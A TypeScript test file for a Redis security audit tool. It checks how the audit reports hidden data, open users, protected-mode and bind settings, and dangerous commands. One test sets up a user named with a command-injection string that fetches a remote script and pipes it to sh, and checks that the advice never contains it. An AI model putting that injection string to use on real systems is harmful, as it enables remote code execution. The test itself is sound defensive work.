import { describe, expect, onTestFinished, test } from 'vitest';
import { audit } from './peers/hostile-audit.ts';
import type { RealRedis } from './peers/redis-server.ts';
import { startRedis } from './peers/redis-server.ts';

async function realRedis(...settings: string[]): Promise<RealRedis> {
  const server = await startRedis(...settings);
  onTestFinished(() => server.stop());
  return server;
}

describe('what an audit may not see', () => {
  test('of a user without any right is not visible, never clean', async () => {
    const server = await realRedis();
    await server.client.set('crackit', 'x');
    await server.client.acl('SETUSER', 'nobody', 'on', '>pw', '-@all', '+ping');

    const report = await audit(`redis://nobody:pw@127.0.0.1:${server.port}`);

    expect(report.outcome).toBe('audited');
    expect(report.server).toBeUndefined();
    expect(Object.values(report.axes).map(({ answer }) => answer)).toEqual([
      'not-visible',
      'not-visible',
      'not-visible',
      'not-visible',
      'not-visible',
    ]);
    expect(report.notTested.join('\n')).toMatch(/CONFIG GET \(NOPERM.*refused[\s\S]*EXISTS \(NOPERM/);
  });

  test('of settings keeps infected from being "no", while its data is judged', async () => {
    const server = await realRedis();
    await server.client.set('honest', 'value');
    await server.client.acl(
      'SETUSER',
      'reader',
      'on',
      '>pw',
      '~*',
      '-@all',
      '+@read',
      '+info',
      '+ping',
      '+select',
      '+scan',
    );

    const report = await audit(`redis://reader:pw@127.0.0.1:${server.port}`);

    expect(report.axes.infected).toMatchObject({
      answer: 'not-visible',
      because: expect.stringContaining('its settings are not visible') as string,
    });
    expect(report.axes.leaking.answer).toBe('no');
    expect(report.axes.misconfigured.answer).toBe('not-visible');
    expect(report.counts.valuesRead).toBe(1);
  });

  test('of values does not hide what else is seen', async () => {
    const server = await realRedis();
    await server.client.set('other', 'value');
    await server.client.acl('SETUSER', 'half', 'on', '>pw', '~mine:*', '+@all');
    await server.client.set('mine:1', 'value');

    const report = await audit(`redis://half:pw@127.0.0.1:${server.port}`);

    expect(report.axes.infected.because).toContain('1 values are not visible');
    expect(report.notTested).toContain('values of 1 keys: refused');
  });

  test('of a database that does not exist is not "no keys"', async () => {
    const server = await realRedis('--databases', '4');

    const report = await audit(`127.0.0.1:${server.port}/9`);

    expect(report.axes.infected.because).toBe('No sign so far, but 1 database is not visible.');
    expect(report.axes.leaking.answer).toBe('not-visible');
    expect(report.notTested.join()).toContain('SELECT 9 (ERR DB index is out of range): refused');
  });

  test('of databases beyond the limit, or without the right to select them, is said', async () => {
    const server = await realRedis();
    for (const db of [0, 1, 2]) {
      await server.client.select(db);
      await server.client.set('key', 'value');
    }
    await server.client.acl('SETUSER', 'zero', 'on', '>pw', '~*', '&*', '+@all', '-select');

    const limited = await audit(`127.0.0.1:${server.port}`, { limits: { databases: 2 } });
    const unable = await audit(`redis://zero:pw@127.0.0.1:${server.port}`);

    expect(limited.axes.infected.answer).toBe('not-visible');
    expect(limited.server?.keys).toBe(3);
    expect(limited.notTested.join()).toContain('1 of its databases: one audit looks at 2');
    expect(unable.axes.infected.because).toBe('No sign so far, but 2 databases are not visible.');
  });

  test('a user with a hostile name is not put into a command', async () => {
    const server = await realRedis();
    await server.client.acl('SETUSER', 'x;curl${IFS}203.0.113.9|sh', 'on', 'nopass', '~*', '+@all');

    const report = await audit(`127.0.0.1:${server.port}`);

    const finding = report.findings.find(({ rule }) => rule === 'audit.exposed.open-users');
    expect(finding?.advice).toContain('ACL SETUSER NAME resetpass');
    expect(finding?.advice).not.toContain('curl');
  });

  test('says that the default user is open when another one was asked for', async () => {
    const server = await realRedis('--protected-mode', 'no', '--bind', '* -::*');
    await server.client.acl('SETUSER', 'ann', 'on', '>pw', '~*', '&*', '+@all');

    const report = await audit(`redis://ann:pw@127.0.0.1:${server.port}`);

    expect(report.axes.exposed.answer).toBe('yes');
    expect(report.findings.map(({ rule }) => rule)).toEqual(
      expect.arrayContaining([
        'audit.exposed.no-password',
        'audit.exposed.protected-mode',
        'audit.exposed.bind',
      ]),
    );
    expect(JSON.stringify(report)).not.toMatch(/[0-9a-f]{64}/);
  });

  test('names users that need no password', async () => {
    const server = await realRedis('--bind', '* -::*');
    await server.client.acl('SETUSER', 'backdoor', 'on', 'nopass', '~*', '&*', '+@all');
    await server.client.config('SET', 'requirepass', 'pw');

    const report = await audit(`redis://:pw@127.0.0.1:${server.port}`);

    const finding = report.findings.find(({ rule }) => rule === 'audit.exposed.open-users');
    expect(finding).toMatchObject({ severity: 'high', axis: 'exposed' });
    expect(finding?.advice).toContain('ACL SETUSER backdoor resetpass');
    expect(report.axes.exposed.answer).toBe('yes');
  });

  test('a renamed command is not called usable', async () => {
    const server = await realRedis(
      '--protected-mode',
      'no',
      '--bind',
      '* -::*',
      '--rename-command',
      'CONFIG',
      '',
    );

    const report = await audit(`127.0.0.1:${server.port}`);

    const finding = report.findings.find(({ rule }) => rule === 'audit.exposed.dangerous-commands');
    expect(finding?.evidence[0]?.excerpt).toBe(
      'debug eval flushall migrate module replicaof save slaveof shutdown',
    );
    expect(report.notTested.join()).toContain('CONFIG GET (ERR unknown command');
  });
});
